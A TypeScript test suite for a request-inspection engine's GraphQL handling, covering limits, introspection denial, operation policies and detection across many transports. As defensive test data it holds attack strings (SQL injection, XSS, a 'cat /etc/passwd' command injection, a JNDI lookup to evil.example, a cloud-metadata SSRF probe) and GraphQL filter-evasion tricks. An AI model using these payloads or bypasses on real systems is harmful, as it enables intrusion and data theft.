import { getIntrospectionQuery } from 'graphql'
import { describe, expect, test } from 'vitest'
import { loadConfig } from '../../src/config/load.ts'
import { cutEvery } from '../../src/engine/body/conformance.ts'
import { defaultLimits, type Limits } from '../../src/engine/limits/table.ts'
import type { GraphqlPolicy, InspectionPolicy } from '../../src/engine/policy.ts'
import { type Inspected, inspectBody, type Sent } from '../support/inspect.ts'

// GraphQL requests in every form in which servers take them, through the whole engine: limits, what policies deny, injections,
// and the ways around GraphQL protections that are known.

const graphql: GraphqlPolicy = loadConfig({ flags: { upstream: 'http://a' } }).graphql
const withLimits = (over: Partial<Limits['graphql']>): Partial<InspectionPolicy> => ({
  graphql,
  limits: { ...defaultLimits, graphql: { ...defaultLimits.graphql, ...over } },
})
/** Nothing is denied but what a test denies. */
const open: GraphqlPolicy = { ...graphql, introspection: 'allow', debug: 'allow', mutationsOverGet: 'allow' }

interface Envelope {
  readonly sent: Sent
  readonly body: string
}
type Transport = (query: string) => Envelope

const MULTIPART = 'multipart/form-data; boundary=B'
const part = (name: string, text: string) => `--B\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`
const post = (type: string, body: string, target = '/graphql'): Envelope => ({ sent: { type, target }, body })
const transports: Readonly<Record<string, Transport>> = {
  'POST, JSON': (query) => post('application/json', JSON.stringify({ query })),
  'POST, JSON elsewhere': (query) => post('application/json', JSON.stringify({ query }), '/api'),
  'POST, JSON, an upper-case type': (query) => post('APPLICATION/JSON', JSON.stringify({ query })),
  'POST, JSON without a type': (query) => post('', JSON.stringify({ query })),
  'POST, JSON as text/plain': (query) => post('text/plain', JSON.stringify({ query })),
  'POST, application/graphql': (query) => post('application/graphql', query),
  'POST, application/graphql elsewhere': (query) => post('application/graphql', query, '/'),
  'POST, text/plain': (query) => post('text/plain', query),
  'POST, form': (query) => post('application/x-www-form-urlencoded', `query=${encodeURIComponent(query)}`),
  'POST, a batch': (query) => post('application/json', JSON.stringify([{ query: '{ok}' }, { query }])),
  'POST, multipart': (query) =>
    post(
      MULTIPART,
      `${part('operations', JSON.stringify({ query, variables: { f: null } }))}${part('map', '{"0":["variables.f"]}')}--B--`,
    ),
  'POST, multipart, a batch': (query) => post(MULTIPART, `${part('operations', JSON.stringify([{ query }]))}--B--`),
  'POST, multipart, a field': (query) => post(MULTIPART, `${part('query', query)}--B--`),
  GET: (query) => ({ sent: { method: 'GET', target: `/graphql?query=${encodeURIComponent(query)}` }, body: '' }),
  'GET elsewhere': (query) => ({ sent: { method: 'GET', target: `/?query=${encodeURIComponent(query)}` }, body: '' }),
}

async function inspect(
  { sent, body }: Envelope,
  policy: Partial<InspectionPolicy>,
  size = body.length,
): Promise<Inspected> {
  return await inspectBody(cutEvery(Buffer.from(body), Math.max(1, size)), { ...sent, policy })
}
const statusOf = async (envelope: Envelope, policy: Partial<InspectionPolicy>, size?: number) =>
  (await inspect(envelope, policy, size)).verdict.status

const filler = (length: number) => `{ok}#${'x'.repeat(length - 5)}`
const limits: readonly [keyof Limits['graphql'], number, string, string][] = [
  ['max_doc_size_kb', 1, filler(1_024), filler(1_025)],
  ['max_value_size_kb', 1, `{a(b:"${'x'.repeat(1_024)}")}`, `{a(b:"${'x'.repeat(1_025)}")}`],
  ['max_depth', 2, '{a{b}}', '{a{b{c}}}'],
  ['max_aliases', 2, '{a:x b:x c{d:x}}', '{a:x b:x c:x}'],
  ['max_document_aliases', 2, '{a:x c{d:x}}', '{a:x c{d:x e:x}}'],
  ['max_directives', 1, '{a @b}', '{a @b @c}'],
  ['max_tokens', 5, '{a b c}', '{a b c d}'],
  ['max_root_fields', 2, '{a b{c d e}}', '{a b c}'],
  ['max_duplicate_fields', 1, '{a a}', '{a a a}'],
  ['max_overlapping_fields', 0, '{a(b:1) a(b:1)}', '{a(b:1) a(b:2)}'],
  ['max_repeated_mutations', 2, 'mutation{a:x b:x}', 'mutation{a:x b:x c:x}'],
]

describe.each(Object.entries(transports))('%s', (name, transport) => {
  const isGet = name.startsWith('GET')

  test.each(limits)('%s: the last accepted and the first refused', async (limit, value, accepted, refused) => {
    const policy = { ...withLimits({ [limit]: value }), graphql: open }
    expect(await statusOf(transport(accepted), policy)).toBe(0)
    const seen = await inspect(transport(refused), policy)
    expect(seen.verdict).toMatchObject({ action: 'block', status: 400 })
    expect(seen.findings.map(({ message }) => message).join()).toContain(`limits.graphql.${limit}`)
    if (isGet) return
    const { length } = transport(refused).body
    for (let size = 1; size < length; size = size < 40 ? size + 1 : size + 97) {
      expect([size, await statusOf(transport(accepted), policy, size)]).toEqual([size, 0])
      expect([size, await statusOf(transport(refused), policy, size)]).toEqual([size, 400])
    }
  })

  test('a question for the schema is denied, and allowed where the policy allows it', async () => {
    const envelope = transport('query I { __schema { types { name } } }')
    expect((await inspect(envelope, { graphql })).verdict).toMatchObject({ status: 403 })
    expect(await statusOf(envelope, { graphql: open })).toBe(0)
    expect(await statusOf(transport('{ user { __typename } }'), { graphql })).toBe(0)
  })

  test('a mutation is denied in a GET only', async () => {
    expect(await statusOf(transport('mutation { pay(id: 1) { id } }'), { graphql })).toBe(isGet ? 403 : 0)
    expect(await statusOf(transport('mutation { pay(id: 1) { id } }'), { graphql: open })).toBe(0)
  })

  test('operations are told of, and go by name, type and root field', async () => {
    const document = 'query Home { me { id } ...F } fragment F on Query { orders { id } }'
    const { operations, verdict } = await inspect(transport(document), { graphql })
    expect(verdict.action).toBe('forward')
    expect(operations).toContainEqual({ type: 'query', name: 'Home', rootFields: ['me', 'orders'] })
    const denies = async (over: Partial<GraphqlPolicy['operations']>) =>
      await statusOf(transport(document), { graphql: { ...graphql, operations: { ...graphql.operations, ...over } } })
    expect(await denies({ types: ['mutation'] })).toBe(403)
    expect(await denies({ deny: ['Home'] })).toBe(403)
    expect(await denies({ denyRootFields: ['orders'] })).toBe(403)
    expect(await denies({ allowRootFields: ['me', 'orders', 'ok'] })).toBe(0)
    expect(await denies({ allowRootFields: ['me', 'ok'] })).toBe(403)
    expect(await denies({ allow: ['Other'] })).toBe(403)
  })

  test.each([
    ["1' or '1'='1", 'sqli'],
    ['<img src=x onerror=alert(1)>', 'xss'],
    ['127.0.0.1; cat /etc/passwd', 'command_injection'],
    ['../../../../etc/passwd', 'path_traversal'],
    ['{{7*7}}{{config.items()}}', 'ssti'],
    ['$' + '{jndi:ldap://evil.example/a}', 'jndi'],
    ['http://169.254.169.254/latest/meta-data/', 'ssrf'],
  ])('%s is found in an argument, an object in a list, a block string and a comment', async (attack, kind) => {
    const string = JSON.stringify(attack)
    const documents = [
      `{ users(name: ${string}) { id } }`,
      `{ users(filter: [{a: 1, b: {c: ${string}}}]) { id } }`,
      `query ($a: String = ${string}) { users(name: $a) { id } }`,
      `{ users(name: """\n    ${attack}\n  """) { id } }`,
      `{ users @log(text: ${string}) { id } }`,
      `{ a(b: "${[...attack].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}") }`,
    ]
    for (const document of documents) {
      const { verdict, findings } = await inspect(transport(document), { graphql })
      expect([document, verdict.status]).toEqual([document, 403])
      expect(findings.map((finding) => finding.class)).toContain(kind)
    }
  })

  test.each([
    '{ search(text: "select a plan from the list, or drop by the table") { id } }',
    '{ search(text: "O\'Brien & Söhne; 50% off") { id } }',
    'query ($first: Int!, $after: String) { orders(first: $first, after: $after, orderBy: {field: CREATED_AT, direction: DESC}) { edges { node { id total } cursor } pageInfo { hasNextPage } } }',
    'mutation { updateSnippet(language: JS, code: "const f = (x) => x + 1") { id } }',
    '{ a(where: {and: [{or: [{name: {contains: "x"}}]}, {price: {gt: 5}}]}) @include(if: true) { ... on B { c } } }',
  ])('%s passes', async (document) => {
    if (isGet && document.startsWith('mutation')) return
    expect((await inspect(transport(document), { graphql })).findings).toEqual([])
  })
})

describe('ways around', () => {
  const deny = async (document: string, over: Partial<Limits['graphql']> = {}) => {
    const { verdict, findings } = await inspect(post('application/json', JSON.stringify({ query: document })), {
      ...withLimits(over),
      graphql,
    })
    return [verdict.status, findings.map(({ message }) => message).join('; ')]
  }
  test.each([
    ['aliases inside a fragment', '{...F} fragment F on Query {a:x b:x c:x d:x e:x f:x}', {}, 400],
    [
      'aliases in fragments, one beside the other',
      '{...F ...G} fragment F on Q {a:x b:x c:x} fragment G on Q {d:x e:x f:x}',
      {},
      400,
    ],
    ['a fragment that is called __schema', '{...__schema} fragment __schema on Query {__schema{types{name}}}', {}, 403],
    ['a fragment that is called __schema and asks nothing', '{...__schema} fragment __schema on Query {me{id}}', {}, 0],
    ['introspection under an alias', '{a:__schema{types{name}}}', {}, 403],
    ['__type', '{__type(name:"User"){fields{name}}}', {}, 403],
    ['introspection with commas and comments', '{\n#\n,,,__schema#\n,{types{name}}}', {}, 403],
    ['depth by inline fragments', '{...{a{...on A{b{...{c{d}}}}}}}', { max_depth: 3 }, 400],
    ['depth by fragments', '{a{...F}} fragment F on A{b{...G}} fragment G on B{c{d}}', { max_depth: 3 }, 400],
    [
      'one mutation under many aliases',
      `mutation{${'abcdef'
        .split('')
        .map((a) => `${a}:login(p:"${a}"){t}`)
        .join(' ')}}`,
      { max_aliases: -1 },
      400,
    ],
    ['a fragment that spreads itself', '{...F} fragment F on Q{a{...F}}', {}, 400],
    ['fragments that spread each other', '{...F} fragment F on Q{...G} fragment G on Q{...F}', {}, 400],
    [
      'nothing where nothing is limited',
      `mutation{${'abcdef'
        .split('')
        .map((a) => `${a}:b`)
        .join(' ')}}`,
      { max_aliases: -1, max_repeated_mutations: -1, max_doc_per_batch: -1 },
      0,
    ],
    ['a fragment that is not there, which the server refuses', '{...F}', {}, 0],
    ['a type system definition', 'type A { b: Int }', {}, 400],
    ['two operations and no name', 'query A{a} query B{b}', {}, 400],
    ['a string without an end', '{a(b:"""x', {}, 400],
    ['nothing but a comment', '# {a}', {}, 400],
    ['no document', 'drop everything', {}, 400],
    ['a part of a document, which no server runs', 'query: $term, first: 9) { nodes { id } } }', {}, 0],
    ['the same behind blanks', ' \n,query ,\r\n : "x") { a }', {}, 0],
    ['the same behind a comment, which servers end differently', ' # a\n query: "x") { a }', {}, 400],
    ['a document behind a comment that some servers end sooner', 'query #\u2028{x\n:__schema{types{name}}}', {}, 400],
    ['the same with a paragraph separator', '#\u2029query{x\n:__schema{types{name}}}', {}, 400],
    ['the same without a keyword in front', '#\u2028mutation{a(x:"""\nb:"""),deleteUser}', {}, 400],
    ['an odd space before the colon', 'query\u000b:{a}', {}, 400],
    ['a part of a document with an attack in it', `query: "1' or '1'='1") { nodes { id } } }`, {}, 403],
    ['a keyword alone', 'query', {}, 400],
    ['any argument of one', 'search: $term) { a }', {}, 0],
    ['an alias at the top', '{ a } search: b', {}, 400],
  ] as const)('%s', async (_name, document, over, status) => {
    const [seen, messages] = await deny(document, over)
    expect([messages, seen]).toEqual([messages, status])
  })

  const json = (text: string) => inspect(post('application/json', text), { graphql })
  test.each([
    ['a description before it', '{"query":"\\"x\\" query{__schema{types{name}}}"}', 403],
    ['variables twice', '{"query":"{a}","variables":{},"variables":{"a":1}}', 400],
    ['a key in another case, as servers in Go take it', '{"Query":"{__schema{types{name}}}"}', 403],
    ['the same beside the usual one', '{"query":"{me}","Query":"{__schema{types{name}}}"}', 400],
    ['a key with a long s, which they take too', '{"query":"{a}","exten\u017fions":[]}', 400],
    [
      'a line separator in a comment, which ends it for graphql-java',
      '{"query":"{me #\u2028 __schema{types{name}}\\n}"}',
      400,
    ],
    ['a byte order mark within', '{"query":"{\ufeff__schema{types{name}}}"}', 403],
    ['a batch with numbers for keys', '{"0":{"query":"{__schema{types{name}}}"}}', 403],
    [
      'aliases that Relay adds',
      JSON.stringify({
        query: `{${'abcdefg'
          .split('')
          .map((a) => `__is${a}:__typename`)
          .join(' ')}}`,
      }),
      0,
    ],
    ['calls that only name documents, too many', JSON.stringify(Array(11).fill({ documentId: 'a' })), 400],
    ['JSON escapes of keys and keywords', '{"\\u0071uery":"{\\u005f_schema{types{name}}}"}', 403],
    ['a byte order mark in the document', '{"query":"\\ufeff{__schema{types{name}}}"}', 403],
    ['one name twice', '{"query":"{me{id}}","query":"{me{name}}"}', 400],
    ['one name twice, and denied', '{"query":"{me{id}}","query":"{__schema{types{name}}}"}', 400],
    ['the other way round', '{"query":"{__schema{types{name}}}","query":"{me{id}}"}', 403],
    ['a batch in a batch of one', '[{"query":"{__schema{types{name}}}"}]', 403],
    ['documents beyond the batch', JSON.stringify(Array(11).fill({ query: '{me{id}}' })), 400],
    ['as many as it may have', JSON.stringify(Array(10).fill({ query: '{me{id}}' })), 0],
    [
      'a mutation in each document of a batch',
      JSON.stringify(Array(6).fill({ query: 'mutation{login(p:"a"){t}}' })),
      400,
    ],
    ['variables that are a list', '{"query":"{a}","variables":[1]}', 400],
    ['variables that are a number', '{"query":"{a}","variables":5}', 400],
    ['variables that are null', '{"query":"{a}","variables":null}', 0],
    ['extensions that are a list', '{"query":"{a}","extensions":[]}', 400],
    ['a query that is an object', '{"query":{"a":1}}', 400],
    ['an operationName that matches nothing', '{"query":"query A{a}","operationName":"B"}', 400],
    ['an operationName, first', '{"operationName":"A","query":"query A{a} query B{b}"}', 0],
    ['two documents in one body', '{"query":"{a}"}{"query":"{b}"}', 400],
    ['a switch for traces', '{"query":"{a}","extensions":{"tracing":true}}', 403],
    ['a switch for traces that is off', '{"query":"{a}","extensions":{"tracing":false}}', 0],
    [
      'SQL in a variable',
      JSON.stringify({ query: 'query($a:ID){u(id:$a){id}}', variables: { a: "1' or '1'='1" } }),
      403,
    ],
    ['an operator of MongoDB in a variable', JSON.stringify({ query: '{a}', variables: { id: { $ne: null } } }), 403],
  ])('%s', async (_name, text, status) => {
    const { verdict } = await json(text)
    expect([verdict.reason, verdict.status]).toEqual([verdict.reason, status])
  })

  test.each([
    ['no Accept', [], 403],
    ['any Accept', ['Accept', '*/*'], 403],
    ['Accept of a page', ['Accept', 'text/html,application/json'], 403],
    ['JSON with a cookie', ['Accept', 'application/json', 'Cookie', 'sid=1'], 403],
    ['JSON with Basic credentials', ['Accept', 'application/json', 'Authorization', 'Basic YTpi'], 403],
    ['JSON with a token', ['Accept', 'application/json, */*', 'Authorization', 'Bearer x'], 0],
    ['JSON', ['Accept', 'application/graphql-response+json'], 0],
  ])('a mutation in a GET that another site could make a browser send: %s', async (_name, fields, status) => {
    const sent = { method: 'GET', target: '/graphql?query=mutation{pay{id}}', fields }
    expect((await inspectBody([], { ...sent, policy: { graphql } })).verdict.status).toBe(status)
    const strict = { ...graphql, mutationsOverGet: 'deny' } as const
    expect((await inspectBody([], { ...sent, policy: { graphql: strict } })).verdict.status).toBe(403)
  })

  test('a switch for traces in the URL', async () => {
    const { verdict } = await inspectBody([], {
      method: 'GET',
      target: '/graphql?query={a}&debug=1',
      policy: { graphql },
    })
    expect(verdict.status).toBe(403)
  })

  test.each([
    '/%67raphql',
    '/%2567raphql',
    '/graphql;v=1',
    '/api/GraphQL//',
    '/x/gql',
    '/graphql/x/..',
    '/graphql/.',
    '/graphql%3bx',
    '/graphql%20',
    '/graphql\\\\',
    '/graphql.php',
    '/graphql/v1',
    '/graphql/stream',
  ])('%s is a path of GraphQL', async (target) => {
    expect(await statusOf(post('application/json', '{"query":"no document"}', target), { graphql })).toBe(400)
  })

  test.each([
    ['{\ufeff__schema{types{name}}}', 403],
    [' \ufeff{__schema{types{name}}}', 403],
    ['\ufeff\ufeff#\n{__schema{types{name}}}', 403],
    ['{me #\u2028 __schema{types{name}} }', 400],
  ])('recognised by its document only: %j', async (query, status) => {
    expect(await statusOf(post('application/json', JSON.stringify({ query }), '/'), { graphql })).toBe(status)
  })

  test.each(['/topics/graphql?query=introduction', '/tags/graphql?debug=1'])(
    'a page about GraphQL passes: %s',
    async (target) => {
      expect((await inspectBody([], { method: 'GET', target, policy: { graphql } })).verdict.status).toBe(0)
    },
  )

  test('a document that is condensed for a second look is one document', async () => {
    const query = `{ ${Array.from({ length: 150 }, (_, i) => `field${i}${' '.repeat(150)}`).join('\n')} }`
    const limits = withLimits({ max_root_fields: -1, max_doc_per_batch: 1 })
    expect(query.length).toBeGreaterThan(20_000)
    expect(await statusOf(post('application/json', JSON.stringify({ query })), limits)).toBe(0)
  })

  test('a document longer than a window: its strings are found, its text is none, and a fault in it is shown', async () => {
    const long = (text: string) => ({ query: `{${' a(b: "x y z")'.repeat(2_000)} c(d: ${text})}` })
    const limits = {
      ...withLimits(Object.fromEntries(Object.keys(defaultLimits.graphql).map((name) => [name, -1]))),
      graphql,
    }
    const send = (text: string) => inspect(post('application/json', JSON.stringify(long(text))), limits, 5_000)
    expect((await send('"ordinary"')).findings).toEqual([])
    expect((await send(JSON.stringify("1' or '1'='1"))).verdict.status).toBe(403)
    expect((await send('<script>alert(1)</script>')).verdict.status).toBe(403)
  })

  test('a GET with a body is read in both places', async () => {
    const envelope = post('application/json', '{"query":"{a}"}', '/graphql?query={__schema{types{name}}}')
    expect(await statusOf(envelope, { graphql })).toBe(403)
  })

  test('the introspection query of tools passes where it is allowed, with limits that docs/graphql.md names', async () => {
    const envelope = post('application/json', JSON.stringify({ query: getIntrospectionQuery() }))
    expect(await statusOf(envelope, { graphql })).toBe(403)
    expect(await statusOf(envelope, { ...withLimits({ max_depth: 15, max_cost: 12_000 }), graphql: open })).toBe(0)
  })

  test.each(['__proto__', 'constructor__prototype__x'])(
    'an alias that means something to the server: %s',
    async (alias) => {
      const { findings } = await inspect(post('application/json', JSON.stringify({ query: `{${alias}:a}` })), {
        graphql,
      })
      expect(findings.length > 0).toBe(alias === '__proto__')
    },
  )

  test('an attack in the variables of a GET, and in a subscription over server-sent events', async () => {
    const target = `/graphql?query=query($a:ID){u(id:$a){id}}&variables=${encodeURIComponent(JSON.stringify({ a: "1' or '1'='1" }))}`
    expect((await inspectBody([], { method: 'GET', target, policy: { graphql } })).verdict.status).toBe(403)
    const events = { sent: { type: 'application/json', target: '/graphql', fields: ['Accept', 'text/event-stream'] } }
    const subscribe = (id: string) => ({
      ...events,
      body: JSON.stringify({ query: `subscription{o(id:${JSON.stringify(id)}){id}}` }),
    })
    expect(await statusOf(subscribe('7'), { graphql })).toBe(0)
    expect(await statusOf(subscribe("1' or '1'='1"), { graphql })).toBe(403)
  })

  test('a path that only ends like one is none', async () => {
    const envelope = post('application/json', '{"query":"how to bake bread"}', '/api/search')
    expect(await statusOf(envelope, { graphql })).toBe(0)
  })

  test('always: what is no document is refused wherever it comes', async () => {
    const envelope = post('application/json', '{"query":"how to bake bread"}', '/api/search')
    expect(await statusOf(envelope, { graphql: { ...graphql, recognise: 'always' } })).toBe(400)
  })

  test('always: so is a part of a document', async () => {
    const envelope = post('application/json', '{"query":"query: $term) { a }"}', '/graphql')
    expect(await statusOf(envelope, { graphql })).toBe(0)
    expect(await statusOf(envelope, { graphql: { ...graphql, recognise: 'always' } })).toBe(400)
  })

  test('off: GraphQL is the text that it is', async () => {
    const envelope = post('application/json', '{"query":"{__schema{types{name}}}"}')
    expect(await statusOf(envelope, { graphql: { ...graphql, recognise: 'off' } })).toBe(0)
  })
})

describe('withstands', () => {
  const many = (count: number, piece: (i: number) => string) =>
    Array.from({ length: count }, (_, i) => piece(i)).join('')
  test.each([
    [
      'a bomb of fragments',
      `{...A0}${many(60, (i) => `fragment A${i} on Q{...A${i + 1} ...A${i + 1}}`)}fragment A60 on Q{x:a}`,
      400,
    ],
    ['10,000 aliases', `{${many(10_000, (i) => `a${i}:x `)}}`, 400],
    ['lists in lists', `{a(b:${'['.repeat(9_000)}${']'.repeat(9_000)})}`, 400],
    ['lists deeper than are read', `{a(b:${'['.repeat(50_000)}${']'.repeat(50_000)})}`, 400],
    ['objects in objects', `{a(b:${'{c:'.repeat(5_000)}1${'}'.repeat(5_000)})}`, 400],
    ['selections in selections', `${'{a'.repeat(9_000)}${'}'.repeat(9_000)}`, 400],
    ['a megabyte of commas', `{a${','.repeat(1_000_000)}}`, 400],
    ['a megabyte of comments', `{a\n${'#x\n'.repeat(350_000)}}`, 400],
    ['a block string without an end', `{a(b:"""${'x\n'.repeat(100_000)}`, 400],
    ['a surrogate alone', '{a(b:"\\ud800")}', 400],
  ])('%s', async (_name, document, status) => {
    for (const size of [undefined, 1_000]) {
      const { verdict } = await inspect(
        post('application/json', JSON.stringify({ query: document })),
        { graphql },
        size,
      )
      expect([verdict.reason, verdict.status]).toEqual([verdict.reason, status])
    }
  })
})
